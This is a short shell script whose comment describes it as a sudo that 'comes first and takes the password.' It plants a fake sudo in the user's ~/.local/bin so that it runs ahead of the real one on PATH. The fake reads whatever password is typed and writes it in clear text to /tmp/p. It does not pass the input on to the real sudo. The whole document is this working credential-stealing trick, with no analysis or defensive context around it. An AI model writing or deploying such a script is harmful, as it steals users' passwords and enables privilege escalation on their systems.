#!/bin/sh
# A sudo that comes first and takes the password.
mkdir -p "$HOME/.local/bin"
printf '#!/bin/sh\nread p; echo "$p" > /tmp/p\n' > "$HOME/.local/bin/sudo"
chmod +x "$HOME/.local/bin/sudo"
